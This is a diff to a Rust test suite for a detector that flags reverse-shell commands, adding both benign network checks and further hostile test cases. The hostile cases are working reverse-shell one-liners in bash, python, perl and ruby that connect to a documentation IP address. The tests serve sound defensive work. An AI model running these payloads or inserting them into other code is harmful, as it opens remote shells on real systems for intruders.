@@ -136,7 +136,7 @@ mod tests {
                 "reverse_shell_command",
                 text("bash -c 'bash -i >& /dev/tcp/198.51.100.7/4444 0>&1'"),
                 text(
-                    "echo ok > /dev/tcp/localhost/80; nc -zv db 5432; /bin/sh -c 'exec gunicorn'; socat tcp-listen:80 tcp:web:80",
+                    "echo ok > /dev/tcp/localhost/80; nc -zv db 5432; /bin/sh -c 'exec gunicorn'; socat tcp-listen:80 tcp:web:80; exec 3<>/dev/tcp/10.0.0.2/9000; echo -e 'GET /health' >&3; timeout 8 cat <&3 | grep -q UP; exec 6<>/dev/tcp/db/6379; read -r -t 8 -u 6 answer",
                 ),
             ),
             (
@@ -260,7 +260,8 @@ mod tests {
     fn each_command_for_a_shell_elsewhere_is_found() {
         let rules = rules();
         for line in [
-            "exec 5<>/dev/tcp/198.51.100.7/443; cat <&5",
+            "exec 5<>/dev/tcp/198.51.100.7/443; cat <&5 | while read line; do $line 2>&5 >&5; done",
+            "0<&196;exec 196<>/dev/tcp/198.51.100.7/443; sh <&196 >&196 2>&196",
             "python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"198.51.100.7\",4444));os.dup2(s.fileno(),0);pty.spawn(\"/bin/sh\")'",
             "perl -e 'use Socket;$i=\"198.51.100.7\";socket(S,PF_INET,SOCK_STREAM,6);exec(\"/bin/sh -i\");'",
             "ruby -rsocket -e'f=TCPSocket.open(\"198.51.100.7\",4444).to_i;exec sprintf(\"/bin/sh -i <&%d >&%d\",f,f)'",
